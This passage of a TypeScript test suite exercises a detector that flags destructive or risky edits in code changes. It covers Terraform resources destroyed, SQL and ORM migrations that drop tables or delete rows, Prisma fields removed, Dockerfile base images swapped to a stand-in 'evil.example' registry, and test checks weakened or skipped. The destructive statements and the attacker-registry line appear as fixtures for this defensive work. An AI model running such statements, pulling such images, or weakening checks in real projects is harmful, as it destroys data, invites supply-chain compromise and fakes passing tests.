// What a change does inside a high-blast-radius file (core/dangers.ts): each check finds the
// destructive edit and names its line, and leaves alone the everyday edits beside it that a
// review of this session found it flagging (re-indents, moves between files, down migrations,
// stage names, triggers mentioned in a guard…).
import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { findDangers, readsContent, registryHosts } from '../../src/core/dangers';
import type { FileChange } from '../../src/core/model';
import { edit, found, lines } from './helpers/dangerChange';
import { overlayChange } from '../../src/vscode/model/overlay';

const DB = lines('resource "aws_db_instance" "primary" {', '  instance_class = "db.r6g.large"', '  lifecycle {', '    prevent_destroy = true', '  }', '}', 'module "vpc" {', '  source = "./vpc"', '}');
const DESTROYS = (a: string, kind = 'the resource') => `removes ${kind} \`${a}\`: Terraform destroys it (a rename or a move needs a \`moved\` block)`;

describe('dangers in a change', () => {
  describe('Terraform', () => {
    it('a renamed resource (no moved block) and prevent_destroy taken from a resource still declared; not the attribute edit beside them', () => {
      const renamed = DB.replace('"primary"', '"main"').replace('db.r6g.large', 'db.r6g.xlarge');
      assert.deepEqual(found(edit('infra/main.tf', DB, renamed)), { 'infra/main.tf': [`old:1 ${DESTROYS('aws_db_instance.primary')}`] });
      const unprotected = DB.replace('  lifecycle {\n    prevent_destroy = true\n  }\n', '');
      assert.deepEqual(found(edit('infra/main.tf', DB, unprotected)), { 'infra/main.tf': ['old:4 removes `prevent_destroy = true` from `aws_db_instance.primary`'] });
      assert.deepEqual(found(edit('infra/main.tf', DB, DB.replace('db.r6g.large', 'db.r6g.xlarge'))), {});
    });

    it('a moved block, or the block moved to another file of the same folder, keeps the address, prevent_destroy and all', () => {
      const renamed = DB.replace('"primary"', '"main"') + lines('moved {', '  from = aws_db_instance.primary', '  to   = aws_db_instance.main', '}');
      assert.deepEqual(found(edit('infra/main.tf', DB, renamed)), {});
      const [db, rest] = [DB.split('module "vpc"')[0]!, `module "vpc"${DB.split('module "vpc"')[1]!}`];
      assert.deepEqual(found(edit('infra/main.tf', DB, rest), edit('infra/db.tf', undefined, db)), {});
      assert.deepEqual(found(edit('infra/main.tf', DB, db)), { 'infra/main.tf': [`old:7 ${DESTROYS('module.vpc', 'the module')}`] });
    });

    it('a move into another folder (another module) without moved blocks destroys; a removed block destroys unless destroy = false', () => {
      const web = lines('resource "aws_instance" "web" {', '  ami = "a"', '}');
      assert.deepEqual(found(edit('infra/main.tf', web, lines('module "web" {', '  source = "./modules/web"', '}')), edit('infra/modules/web/main.tf', undefined, web)), {
        'infra/main.tf': [`old:1 ${DESTROYS('aws_instance.web')}`],
      });
      const forget = (destroy: string) => lines('removed {', '  from = aws_instance.web', '  lifecycle {', `    destroy = ${destroy}`, '  }', '}');
      assert.deepEqual(found(edit('infra/main.tf', web, forget('false'))), {});
      assert.deepEqual(found(edit('infra/main.tf', web, forget('true'))), { 'infra/main.tf': [`old:1 ${DESTROYS('aws_instance.web')}`] });
    });

    it('a deleted file destroys everything it declared, in one danger; commented-out blocks and heredocs declare nothing', () => {
      assert.deepEqual(found(edit('infra/main.tofu', DB, undefined)), {
        'infra/main.tofu': ['old:1 removes `aws_db_instance.primary`, `module.vpc`: Terraform destroys them (a rename or a move needs a `moved` block)'],
      });
      const dead = lines('resource "aws_instance" "web" {', '}', '/*', 'resource "aws_instance" "old" {', '}', '*/', 'resource "aws_ssm_document" "d" {', '  content = <<EOT', 'resource "fake" "thing" {', 'EOT', '}');
      assert.deepEqual(found(edit('infra/main.tf', dead, lines('resource "aws_instance" "web" {', '}', 'resource "aws_ssm_document" "d" {', '  content = "x"', '}'))), {});
    });

    it('count switched to for_each in one resource re-addresses it; a dynamic block\'s for_each or a re-aligned count does not', () => {
      const counted = lines('resource "aws_instance" "web" {', '  count = 2', '}');
      assert.deepEqual(found(edit('web.tf', counted, counted.replace('count = 2', 'for_each = toset(["a", "b"])'))), {
        'web.tf': ['new:2 switches `aws_instance.web` from `count` to `for_each`: every instance gets a new address, destroyed and created again unless `moved` blocks map them'],
      });
      const sg = lines('resource "aws_instance" "web" {', '  count = 2', '}', 'resource "aws_security_group" "web" {', '  name = "web"', '}');
      const withDynamic = sg.replace('count = 2', 'count = 3').replace('  name = "web"\n', '  name = "web"\n  dynamic "ingress" {\n    for_each = var.ports\n    content {}\n  }\n');
      assert.deepEqual(found(edit('web.tf', sg, withDynamic)), {});
      assert.deepEqual(found(edit('web.tf', sg, sg.replace('count = 2', 'count    = 2'))), {});
    });
  });

  describe('Terraform, second review', () => {
    it('a resource moved out of a module with a moved block is kept; count = 0 and prevent_destroy commented out are read', () => {
      const inModule = lines('resource "aws_instance" "web" {', '}', 'resource "aws_s3_bucket" "assets" {', '}');
      const root = lines('module "web" {', '  source = "./modules/web"', '}');
      const rootAfter = root + lines('resource "aws_s3_bucket" "assets" {', '}', 'moved {', '  from = module.web.aws_s3_bucket.assets', '  to   = aws_s3_bucket.assets', '}');
      assert.deepEqual(found(edit('infra/modules/web/main.tf', inModule, lines('resource "aws_instance" "web" {', '}')), edit('infra/main.tf', root, rootAfter)), {});
      const web = lines('resource "aws_instance" "web" {', '  ami = "a"', '}');
      assert.deepEqual(found(edit('infra/web.tf', web, web.replace('  ami', '  count = 0\n  ami'))), {
        'infra/web.tf': ['new:2 sets `count = 0` on `aws_instance.web`: Terraform destroys every instance of it'],
      });
      const wrapped = DB.replace('    prevent_destroy = true\n', '    /*\n    prevent_destroy = true\n    */\n');
      assert.deepEqual(found(edit('infra/main.tf', DB, wrapped)), { 'infra/main.tf': ['old:4 removes `prevent_destroy = true` from `aws_db_instance.primary`'] });
    });
  });

  describe('SQL', () => {
    it('a DELETE whose WHERE line is unchanged is read whole', () => {
      const before = lines('DELETE FROM sessions', 'WHERE expires_at < now();');
      assert.deepEqual(found(edit('db/cleanup.sql', before, before.replace('sessions', 'old_sessions'))), {});
    });

    it('DROP, TRUNCATE, ALTER TABLE … DROP, DELETE with no WHERE in the whole statement, comments in between read as spaces', () => {
      const added = lines('ALTER TABLE invoices ADD COLUMN retries int;', 'drop table invoices;', '-- DROP TABLE old_invoices', 'TRUNCATE audit;', 'DELETE FROM sessions;', 'ALTER TABLE users DROP legacy_name;', 'DROP/**/TABLE x;', 'DELETE FROM orders', "WHERE created_at < now() - interval '2 years';");
      assert.deepEqual(found(edit('db/migrations/002.sql', lines('SELECT 1;'), lines('SELECT 1;') + added)), {
        'db/migrations/002.sql': [
          'new:3 runs `DROP TABLE`: data is lost',
          'new:5 runs `TRUNCATE`: data is lost',
          'new:6 runs `DELETE FROM` with no `WHERE`: every row is deleted',
          'new:7 drops a column (`ALTER TABLE … DROP`): its data is lost',
          'new:8 runs `DROP TABLE`: data is lost',
        ],
      });
    });

    it('not in strings, comments, the TRUNCATE() function, a statement only re-indented, or a down migration or section', () => {
      assert.deepEqual(found(edit('db/seeds.sql', undefined, lines("INSERT INTO help (text) VALUES ('Do not DROP TABLE in production');", '/* DELETE FROM users; */', 'SELECT TRUNCATE(price, 2) FROM p;'))), {});
      const reset = lines('BEGIN;', 'TRUNCATE users, orders RESTART IDENTITY CASCADE;', 'COMMIT;');
      assert.deepEqual(found(edit('test/reset.sql', reset, reset.replace('TRUNCATE', '  TRUNCATE'))), {});
      for (const p of ['db/migrations/002_x.down.sql', 'db/migration/U3__archive.sql', 'db/003.undo.sql']) assert.deepEqual(found(edit(p, undefined, lines('DROP TABLE invoices;'))), {}, p);
      assert.deepEqual(found(edit('db/migrations/x_down.sql', undefined, lines('DROP TABLE invoices;'))), { 'db/migrations/x_down.sql': ['new:1 runs `DROP TABLE`: data is lost'] });
      const goose = lines('-- +goose Up', 'CREATE TABLE users (id int);', '-- +goose Down', 'DROP TABLE users;');
      const dbmate = lines('-- migrate:up', 'create table orders (id int);', '-- migrate:down', 'drop table orders;');
      assert.deepEqual(found(edit('db/migrations/1_users.sql', undefined, goose), edit('db/migrations/2_orders.sql', undefined, dbmate)), {});
    });
  });

  describe('migrations written as code', () => {
    it('Rails, Alembic, Laravel, Knex, TypeORM, Sequelize, Django, Ecto: a table or column dropped, rows deleted, SQL run; not in the down part', () => {
      const rails = lines(
        'class DropLegacy < ActiveRecord::Migration[7.1]',
        '  def up',
        '    drop_table :invoices',
        '    remove_column :users, :legacy_name',
        '    remove_index :users, :email',
        '    execute <<~SQL',
        '      DROP TABLE audit_log;',
        '    SQL',
        '  end',
        '',
        '  def down',
        '    drop_table :new_invoices',
        '  end',
        'end',
      );
      const alembic = lines('def upgrade() -> None:', "    op.drop_column('users', 'legacy')", "    op.drop_index('ix_users_email')", '', '', 'def downgrade() -> None:', "    op.drop_table('users')");
      const laravel = lines(
        'return new class extends Migration',
        '{',
        '    public function up(): void',
        '    {',
        "        Schema::dropIfExists('flights');",
        "        Schema::table('users', function (Blueprint $table) {",
        "            $table->dropColumn('votes');",
        "            $table->dropForeign('users_team_id_foreign');",
        '        });',
        "        DB::table('sessions')->truncate();",
        '    }',
        '',
        '    public function down(): void',
        '    {',
        "        Schema::drop('airports');",
        '    }',
        '};',
      );
      const typeorm = lines(
        'export class Drop1700000000000 implements MigrationInterface {',
        '  public async up(queryRunner: QueryRunner): Promise<void> {',
        '    await queryRunner.query(`ALTER TABLE "user" DROP COLUMN "nickname"`);',
        '  }',
        '  public async down(queryRunner: QueryRunner): Promise<void> {',
        '    await queryRunner.query(`DROP TABLE "user"`);',
        '  }',
        '}',
      );
      const knex = lines('exports.up = function (knex) {', "  return knex.schema.dropTableIfExists('sessions');", '};', 'exports.down = function (knex) {', "  return knex.schema.dropTable('accounts');", '};');
      const knexEsm = lines("export const down = async (knex) => knex.schema.dropTable('a');", 'export const up = async (knex) => {', "  await knex.schema.table('b', (t) => t.dropColumn('c'));", '};');
      const changeTable = lines('def change', '  change_table :users do |t|', '    t.remove :nickname', '    t.string :alias', '  end', 'end');
      const sequelize = lines('module.exports = {', '  async up(queryInterface) {', "    await queryInterface.removeColumn('Users', 'age');", '  },', '  async down(queryInterface) {', "    await queryInterface.dropTable('Users');", '  },', '};');
      const django = lines('class Migration(migrations.Migration):', '    operations = [', '        migrations.RemoveField(', "            model_name='user',", "            name='legacy',", '        ),', "        migrations.DeleteModel(name='Invoice'),", '        migrations.RunSQL(', "            sql='CREATE INDEX i ON t (c)',", "            reverse_sql='DROP TABLE t',", '        ),', '    ]');
      const ecto = lines('defmodule Repo.Migrations.Drop do', '  use Ecto.Migration', '  def up do', '    drop table(:weather)', '    alter table(:users) do', '      remove :nickname', '    end', '  end', '  def down do', '    drop table(:cities)', '  end', 'end');
      assert.deepEqual(
        found(
          edit('db/migrate/20240101_drop_legacy.rb', undefined, rails),
          edit('alembic/versions/abc123_drop.py', undefined, alembic),
          edit('database/migrations/2024_01_01_000000_drop.php', undefined, laravel),
          edit('src/migration/1700000000000-Drop.ts', undefined, typeorm),
          edit('migrations/20240101_sessions.js', undefined, knex),
          edit('db/migrations/20240101-users.cjs', undefined, sequelize),
          edit('app/migrations/0007_remove_user_legacy.py', undefined, django),
          edit('priv/repo/migrations/20240101_drop.exs', undefined, ecto),
          edit('migrations/20240102_b.mjs', undefined, knexEsm),
          edit('db/migrate/20240102_alias.rb', undefined, changeTable),
        ),
        {
          'db/migrate/20240101_drop_legacy.rb': [
            'new:3 drops a table (`drop_table :invoices`): its data is lost',
            'new:4 drops a column (`remove_column :users, :legacy_name`): its data is lost',
            'new:7 runs `DROP TABLE` (`DROP TABLE audit_log;`): its data is lost',
          ],
          'alembic/versions/abc123_drop.py': ["new:2 drops a column (`op.drop_column('users', 'legacy')`): its data is lost"],
          'database/migrations/2024_01_01_000000_drop.php': [
            "new:5 drops a table (`Schema::dropIfExists('flights');`): its data is lost",
            "new:7 drops a column (`$table->dropColumn('votes');`): its data is lost",
            "new:10 deletes rows (`DB::table('sessions')->truncate();`): the rows are gone",
          ],
          'src/migration/1700000000000-Drop.ts': ['new:3 runs `DROP COLUMN` (``await queryRunner.query(`ALTER TABLE "user" DROP COLUMN "nickname"`);``): its data is lost'],
          'migrations/20240101_sessions.js': ["new:2 drops a table (`return knex.schema.dropTableIfExists('sessions');`): its data is lost"],
          'db/migrations/20240101-users.cjs': ["new:3 drops a column (`await queryInterface.removeColumn('Users', 'age');`): its data is lost"],
          'app/migrations/0007_remove_user_legacy.py': ['new:3 drops a column (`migrations.RemoveField(`): its data is lost', "new:7 drops a table (`migrations.DeleteModel(name='Invoice'),`): its data is lost"],
          'priv/repo/migrations/20240101_drop.exs': ['new:4 drops a table (`drop table(:weather)`): its data is lost', 'new:6 drops a column (`remove :nickname`): its data is lost'],
          'migrations/20240102_b.mjs': ["new:3 drops a column (`await knex.schema.table('b', (t) => t.dropColumn('c'));`): its data is lost"],
          'db/migrate/20240102_alias.rb': ['new:3 drops a column (`t.remove :nickname`): its data is lost'],
        },
      );
    });

    it('only what the change adds: an edit beside an old drop, a comment, an index or a constraint, a file outside a migrations folder', () => {
      const before = lines('class Drop < ActiveRecord::Migration[7.1]', '  def change', '    drop_table :old_sessions', '  end', 'end');
      assert.deepEqual(found(edit('db/migrate/1_drop.rb', before, before.replace('[7.1]', '[7.2]'))), {});
      const added = lines('def upgrade():', '    # op.drop_table("users") once the export is done', "    op.drop_index('ix_a')", "    op.drop_constraint('fk_a', 'users')", '    op.add_column("users", sa.Column("age", sa.Integer()))');
      assert.deepEqual(found(edit('migrations/versions/1_a.py', undefined, added)), {});
      assert.deepEqual(found(edit('src/cache.ts', undefined, lines('cache.dropTable("x");'))), {});
      assert.equal(readsContent('db/migrate/1_a.rb'), true);
      assert.equal(readsContent('src/models/user.rb'), false);
    });

    it("Rails' reversible down block and Liquibase's rollback are the down part; the up part after them is read again", () => {
      const rails = lines('def change', '  reversible do |dir|', '    dir.down do', '      drop_table :a', '    end', '  end', '  remove_column :users, :b', 'end');
      const liquibase = lines('<changeSet id="1" author="x">', '  <addColumn tableName="t"><column name="c"/></addColumn>', '  <rollback>', '    <dropColumn tableName="t" columnName="c"/>', '  </rollback>', '</changeSet>', '<changeSet id="2" author="x">', '  <dropTable tableName="legacy"/>', '</changeSet>');
      assert.deepEqual(found(edit('db/migrate/2_b.rb', undefined, rails), edit('db/changelog/changes.xml', undefined, liquibase)), {
        'db/migrate/2_b.rb': ['new:7 drops a column (`remove_column :users, :b`): its data is lost'],
        'db/changelog/changes.xml': ['new:8 drops a table (`<dropTable tableName="legacy"/>`): its data is lost'],
      });
    });

    it('second review, on real migrations: the down parts and prose it did not know are not read', () => {
      const none = (path: string, ...text: string[]) => assert.deepEqual(found(edit(path, undefined, lines(...text))), {}, path);
      none('src/migrations/Migration1.ts', 'export class Migration1 extends Migration {', '  override async up(): Promise<void> {', '    this.addSql(`alter table "a" add column "b" int;`);', '  }', '  override async down(): Promise<void> {', '    this.addSql(`alter table "a" drop column "b";`);', '  }', '}');
      none('src/migrations/01_x.ts', 'export const down: MigrationFn<QueryInterface> = async ({ context: qi }) => {', "  await qi.dropTable('Metadata');", '};');
      none('app/migrations/0002_x.py', 'from django.db.migrations import RemoveField', 'class Keep(RemoveField):', '    pass', 'operations = [migrations.SeparateDatabaseAndState(state_operations=[migrations.RemoveField("t", "f")], database_operations=[])]');
      none('app/migrations/0003_x.py', 'operations = [', '    migrations.SeparateDatabaseAndState(', '        state_operations=[', '            migrations.DeleteModel(name="Old"),', '        ],', '    ),', ']');
      none('alembic/versions/1_multi.py', 'def upgrade_engine1():', '    pass', 'def downgrade_engine1():', "    op.drop_table('t')");
      none('app/migrations/0005_x.py', 'operations = [migrations.RunSQL("CREATE TABLE t2 (id int)", "DROP TABLE t2")]');
      none('priv/repo/migrations/1_x.exs', 'def change do', '  execute "CREATE TABLE c AS SELECT * FROM i", "DROP TABLE c"', 'end');
      none('alembic/versions/2_doc.py', '"""Drop column legacy from users', '', 'Revision ID: 2', '"""', 'def upgrade():', '    """Backfill before we drop table legacy_orders."""', '    pass');
      none('db/changelog/c.xml', '<!--', '  we used to drop table audit here', '-->');
      none('migrations/20240101_t.js', 'exports.up = function (knex) {};', '  exports.down = function (knex) {', "\treturn knex.schema.dropTableIfExists('t');", '  };');
      none('db/changelog/1.yaml', '- changeSet:', '    rollback:', '    - dropTable:', '        tableName: t');
      none('db/changelog/1.json', '{"changeSet": {', '  "rollback": [', '    {"dropTable": {"tableName": "t"}}', '  ]', '}}');
      none('database/migrations/2024_x.php', "    $table->removeColumn('x');");
      none('priv/repo/migrations/2_oban.exs', 'def up, do: :ok', 'defp down_v2(prefix) do', '  drop_if_exists(table(:jobs, prefix: prefix))', 'end');
    });

    it('third look: a drop only reflowed by a formatter, a squash and a test beside the migrations are not new drops', () => {
      const before = lines('operations = [', "    migrations.RemoveField(model_name='a', name='x'),", ']');
      const after = lines('operations = [', '    migrations.RemoveField(', "        model_name='a',", "        name='x',", '    ),', ']');
      assert.deepEqual(found(edit('app/migrations/0003_x.py', before, after)), {});
      assert.deepEqual(found(edit('app/migrations/0001_squashed_0005.py', undefined, lines("    replaces = [('app', '0001'), ('app', '0002')]", '    operations = [', "        migrations.DeleteModel(name='Tmp'),", '    ]'))), {});
      assert.deepEqual(found(edit('src/migrations/__tests__/0001.test.ts', undefined, lines("await knex.schema.dropTable('t');"))), {});
    });

    it('rows deleted or rewritten from code, and renames, are read: DELETE and the ORM deletes are errors, UPDATE with no WHERE and renames warnings', () => {
      const alembic = lines('def upgrade():', '    op.execute("DELETE FROM invoices")', '    op.execute("UPDATE invoices SET amount_cents = 0")', '    op.execute("DELETE FROM sessions WHERE expires_at < now()")', "    op.alter_column('a', 'b')");
      const knex = lines('exports.up = async (knex) => {', "  await knex('payments').del();", "  await knex('refunds').where({ id: 1 }).del();", "  await knex.schema.renameColumn('amount', 'amount_cents');", '};');
      assert.deepEqual(found(edit('alembic/versions/3_x.py', undefined, alembic), edit('migrations/20240103_x.js', undefined, knex), edit('db/backfill.sql', undefined, lines('UPDATE users SET active = true;'))), {
        'alembic/versions/3_x.py': ['new:2 deletes rows (`op.execute("DELETE FROM invoices")`): the rows are gone', 'new:3 (warning) rewrites every row (`op.execute("UPDATE invoices SET amount_cents = 0")`: `UPDATE` with no `WHERE`)'],
        'migrations/20240103_x.js': ["new:2 deletes rows (`await knex('payments').del();`): the rows are gone", "new:4 (warning) renames a column or table (`await knex.schema.renameColumn('amount', 'amount_cents');`): code still running during the deploy reads the old name"],
        'db/backfill.sql': ['new:1 (warning) runs `UPDATE` with no `WHERE`: every row is rewritten'],
      });
    });

    it('second review, on real migrations: the drops it missed', () => {
      const doctrine = lines('final class Version1 extends AbstractMigration', '{', '    public function up(Schema $schema): void', '    {', "        $this->addSql('ALTER TABLE user DROP member_id');", "        $this->addSql('ALTER TABLE user DROP FOREIGN KEY FK_1');", '    }', '}');
      const ecto = lines('def up do', '  alter table(:q) do', '    remove(:rows)', '  end', '  drop_if_exists(table(:old))', 'end');
      const rails = lines('def change', '  change_table :posts do |t|', '    t.remove_references :user', '    t.remove(:a, :b)', '  end', 'end');
      const laravel = lines('public function up(): void', '{', "    Schema::table('posts', function (Blueprint $table) {", "        $table->dropConstrainedForeignId('user_id');", '    });', "    DB::statement('TRUNCATE sessions');", "    $this->table('logs')->drop()->save();", '}');
      assert.deepEqual(
        found(edit('migrations/Version1.php', undefined, doctrine), edit('priv/repo/migrations/3_x.exs', undefined, ecto), edit('db/migrate/3_x.rb', undefined, rails), edit('database/migrations/2024_y.php', undefined, laravel)),
        {
          'migrations/Version1.php': ["new:5 drops a column (`$this->addSql('ALTER TABLE user DROP member_id');`): its data is lost"],
          'priv/repo/migrations/3_x.exs': ['new:3 drops a column (`remove(:rows)`): its data is lost', 'new:5 drops a table (`drop_if_exists(table(:old))`): its data is lost'],
          'db/migrate/3_x.rb': ['new:3 drops a column (`t.remove_references :user`): its data is lost', 'new:4 drops a column (`t.remove(:a, :b)`): its data is lost'],
          'database/migrations/2024_y.php': [
            "new:4 drops a column (`$table->dropConstrainedForeignId('user_id');`): its data is lost",
            "new:6 runs `TRUNCATE` (`DB::statement('TRUNCATE sessions');`): its data is lost",
            "new:7 drops a table (`$this->table('logs')->drop()->save();`): its data is lost",
          ],
        },
      );
    });
  });

  describe('Prisma', () => {
    const schema = lines(
      'model User {',
      '  id       Int      @id',
      '  email    String   @unique',
      '  nickname String?  @map("nick")',
      '  role     Role',
      '  posts    Post[]',
      '  @@map("users")',
      '}',
      '',
      'model Post {',
      '  id       Int  @id',
      '  author   User @relation(fields: [authorId], references: [id])',
      '  authorId Int',
      '}',
      '',
      'enum Role {',
      '  ADMIN',
      '}',
    );

    it('a model or a field removed is a table or a column dropped; a relation field, a rename that keeps @map, a model moved to another file are not', () => {
      const noPost = schema.replace(/model Post \{[^}]*\}\n/, '').replace('  posts    Post[]\n', '');
      assert.deepEqual(found(edit('prisma/schema.prisma', schema, noPost.replace('  role     Role\n', ''))), {
        'prisma/schema.prisma': ['old:5 removes the field `User.role`: the next `prisma migrate` drops its column and the data in it', 'old:10 removes the model `Post`: the next `prisma migrate` drops its table and the data in it'],
      });
      const renamed = schema.replace('  nickname String?  @map("nick")', '  alias    String?  @map("nick")').replace('  posts    Post[]\n', '').replace('model User {', 'model Account {');
      assert.deepEqual(found(edit('prisma/schema.prisma', schema, renamed.replace('User @relation', 'Account @relation'))), {});
      assert.deepEqual(found(edit('prisma/schema.prisma', schema, schema.replace('  email    String   @unique', '  mail     String   @unique'))), {
        'prisma/schema.prisma': ['old:3 removes the field `User.email`: the next `prisma migrate` drops its column and the data in it'],
      });
      const post = schema.slice(schema.indexOf('model Post'), schema.indexOf('enum Role'));
      assert.deepEqual(found(edit('prisma/schema/main.prisma', schema, schema.replace(post, '')), edit('prisma/schema/post.prisma', undefined, post)), {});
    });

    it("a field whose type changes to one the change does not declare is named as a type change", () => {
      const before = lines('model Post {', '  id     Int    @id', '  status String', '}');
      assert.deepEqual(found(edit('prisma/schema/post.prisma', before, before.replace('status String', 'status Status'))), {
        'prisma/schema/post.prisma': ['old:3 changes the type of the field `Post.status`: the next `prisma migrate` may drop and re-create its column, and the data in it'],
      });
    });

    it('a schema split into files, its enums in a file of their own, drops nothing', () => {
      const one = lines('model User {', '  id   Int  @id', '  role Role', '}', 'enum Role {', '  A', '}');
      assert.deepEqual(found(edit('prisma/schema/user.prisma', one, lines('model User {', '  id   Int  @id', '  role Role', '}')), edit('prisma/schema/enums.prisma', undefined, lines('enum Role {', '  A', '}'))), {});
    });
  });

  describe('Dockerfile images through ARG', () => {
    it('an ARG default that swaps the base image is read at the ARG line; one that only bumps its tag is not', () => {
      const before = lines('ARG BASE=node:20-alpine', 'FROM ${BASE} AS build', 'FROM $BASE', 'RUN npm ci');
      assert.deepEqual(found(edit('Dockerfile', before, before.replace('node:20-alpine', 'node:22-alpine'))), {});
      assert.deepEqual(found(edit('Dockerfile', before, before.replace('node:20-alpine', 'ghcr.io/someone/node:20'))), {
        Dockerfile: ['new:1 takes its base image from `ghcr.io/someone/node` instead of `node`'],
      });
      assert.deepEqual(found(edit('Dockerfile', lines('FROM node:20', 'RUN x'), lines('ARG IMG', 'FROM ${IMG:-evil.example/node:20}', 'RUN x'))), {
        Dockerfile: ['new:2 takes its base image from `evil.example/node` instead of `node`'],
      });
    });

    it('only global ARGs are read in FROM lines, through one another, quotes left out', () => {
      assert.deepEqual(found(edit('Dockerfile', lines('FROM node:20 AS build', 'FROM node:20'), lines('FROM node:20 AS build', 'ARG RUNTIME=evil.example/x', 'FROM ${RUNTIME}'))), {});
      const before = lines('ARG REGISTRY=docker.io', 'ARG BASE="${REGISTRY}/library/node:20"', 'FROM "$BASE"');
      assert.deepEqual(found(edit('Dockerfile', before, before.replace('docker.io', 'ghcr.io/acme'))), { Dockerfile: ['new:1 takes its base image from `ghcr.io/acme/library/node` instead of `node`'] });
    });
  });

  describe('checks made to pass', () => {
    it('a check script that passes anyway, a coverage threshold lowered, strict checks off, a test focused or skipped', () => {
      const pkg = (test: string, lines_: number) => lines('{', '  "scripts": {', `    "test": "${test}",`, '    "start": "node ."', '  },', '  "jest": { "coverageThreshold": { "global": {', `    "lines": ${lines_}`, '  } } }', '}');
      const ts = lines('{', '  "compilerOptions": {', '    "strict": true,', '    "noImplicitAny": true', '  }', '}');
      const spec = lines("describe('retry', () => {", "  it('retries', () => {});", "  it('stops', () => {});", '});');
      assert.deepEqual(
        found(
          edit('package.json', pkg('jest', 90), pkg('jest --passWithNoTests || true', 0)),
          edit('tsconfig.json', ts, ts.replace('"strict": true,', '"strict": false,').replace(',\n    "noImplicitAny": true', '')),
          edit('test/retry.test.ts', spec, spec.replace("it('retries'", "it.only('retries'").replace("it('stops'", "it.skip('stops'")),
          edit('tests/test_api.py', undefined, lines('@pytest.mark.skip(reason="flaky")', 'def test_a():', '    pass')),
        ),
        {
          'package.json': ['new:3 (warning) makes the `test` script pass whatever its checks find (`jest --passWithNoTests || true`)', 'new:7 (warning) lowers the coverage threshold `lines` from 90 to 0'],
          'tsconfig.json': ["new:3 (warning) turns off TypeScript's `strict` checks", "old:4 (warning) takes out TypeScript's `noImplicitAny` checks"],
          'test/retry.test.ts': ["new:2 focuses the run on this test (`it.only('retries', () => {});`): every other test no longer runs", "new:3 (warning) skips a test (`it.skip('stops', () => {});`)"],
          'tests/test_api.py': ['new:1 (warning) skips a test (`@pytest.mark.skip(reason="flaky")`)'],
        },
      );
    });

    it('tests, second look: not a method called fit, a string or comment naming .only, a skipped test renamed, a conditional skip; chained forms and sub-folders are read', () => {
      assert.deepEqual(found(edit('tests/test_model.py', undefined, lines('def test_fit():', '    model.fit(X, y)')), edit('src/term.test.ts', undefined, lines('fitAddon.fit();', "const r = fit(box, 10);"))), { 'src/term.test.ts': ['new:2 focuses the run on this test (`const r = fit(box, 10);`): every other test no longer runs'] });
      assert.deepEqual(found(edit('test/lint.test.ts', undefined, lines('expect(lint("it.only(1)")).toEqual(["no-only"]);', "/** e.g. it.only('x') */", '/*', "  describe.only('y')", '*/'))), {});
      assert.deepEqual(found(edit('test/rule.test.ts', undefined, lines('ruleTester.run("no-only", rule, { invalid: [{ code: `', "  it.only('a', () => {});", '  describe.skip("b")', '` }] });', "expect(f('it.only(\\'x\\')')).toBe(1);")), edit('tests/test_doc.py', undefined, lines('def test_a():', '    """', '    @pytest.mark.skip is what we avoid', '    """'))), {});
      const skipped = lines("it.skip('old name', () => {});");
      assert.deepEqual(found(edit('test/a.test.ts', skipped, skipped.replace('old name', 'new name'))), {});
      assert.deepEqual(found(edit('e2e/login.spec.ts', undefined, lines("test.skip(browserName === 'webkit', 'flaky');", 'test.skip(({ browserName }) => browserName === "firefox");'))), {});
      assert.deepEqual(found(edit('test/integration/api.js', undefined, lines("it.only.each([1, 2])('works %i', () => {});", "test.concurrent.only('fast', async () => {});")), edit('test/fixtures/sample.js', undefined, lines("it.only('fixture');"))), {
        'test/integration/api.js': ["new:1 focuses the run on this test (`it.only.each([1, 2])('works %i', () => {});`): every other test no longer runs", "new:2 focuses the run on this test (`test.concurrent.only('fast', async () => {});`): every other test no longer runs"],
      });
    });

    it('coverage, second look: a lint limit is no threshold; Codecov read its way; a folder threshold added is no lowering; thresholds taken out are', () => {
      const py = lines('[tool.ruff.lint.pylint]', 'max-branches = 15', '[tool.coverage.report]', 'fail_under = 90');
      assert.deepEqual(found(edit('pyproject.toml', py, py.replace('15', '12'))), {});
      assert.deepEqual(found(edit('pyproject.toml', py, py.replace('fail_under = 90', 'fail_under = 70'))), { 'pyproject.toml': ['new:4 (warning) lowers the coverage threshold `fail_under` from 90 to 70'] });
      const codecov = lines('coverage:', '  status:', '    project:', '      default:', '        target: 90%', '        threshold: 5%');
      assert.deepEqual(found(edit('codecov.yml', codecov, codecov.replace('5%', '1%'))), {});
      assert.deepEqual(found(edit('codecov.yml', codecov, codecov.replace('5%', '10%').replace('90%', '50%'))), {
        'codecov.yml': ['new:5 (warning) lowers the coverage threshold `target` from 90 to 50', 'new:6 (warning) raises the coverage drop Codecov allows (`threshold`) from 5 to 10'],
      });
      const jest = lines('module.exports = {', '  coverageThreshold: {', '    global: { lines: 80, branches: 80 },', '  },', '};');
      assert.deepEqual(found(edit('jest.config.js', jest, jest.replace('  },\n};', "    './src/legacy/': { lines: 50, branches: 40 },\n  },\n};"))), {});
      assert.deepEqual(found(edit('jest.config.js', jest, lines('module.exports = {', "  testEnvironment: 'node',", '};'))), {
        'jest.config.js': ['old:3 (warning) takes out the coverage thresholds: coverage no longer fails the run'],
      });
      const nyc = lines('{', '  "check-coverage": true,', '  "lines": 90', '}');
      assert.deepEqual(found(edit('.nycrc.json', nyc, nyc.replace('true', 'false'))), { '.nycrc.json': ['new:2 (warning) turns off `check-coverage`: coverage no longer fails the run'] });
    });

    it('tsconfig, second look: strict moved into a base file or onto one line is kept; a sub-flag turned off beside strict is read', () => {
      const ts = lines('{', '  "compilerOptions": {', '    "strict": true,', '    "noImplicitReturns": true,', '    "outDir": "dist"', '  }', '}');
      const split = lines('{', '  "extends": "./tsconfig.base.json",', '  "compilerOptions": { "outDir": "dist" }', '}');
      const base = lines('{', '  "compilerOptions": { "strict": true, "noImplicitReturns": true }', '}');
      assert.deepEqual(found(edit('tsconfig.json', ts, split), edit('tsconfig.base.json', undefined, base)), {});
      assert.deepEqual(found(edit('tsconfig.json', ts, lines('{ "extends": "@tsconfig/strictest/tsconfig.json", "compilerOptions": { "noImplicitReturns": true, "outDir": "dist" } }'))), {});
      assert.deepEqual(found(edit('tsconfig.json', ts, ts.replace('"strict": true,', '"strict": true,\n    "strictNullChecks": false,'))), {
        'tsconfig.json': ["new:4 (warning) turns off TypeScript's `strictNullChecks` checks"],
      });
    });

    it('check scripts, second look: `; exit 0` passes anyway; `--passWithNoTests` is said as what it does', () => {
      const pkg = (test: string) => lines('{', '  "scripts": {', `    "test": "${test}"`, '  }', '}');
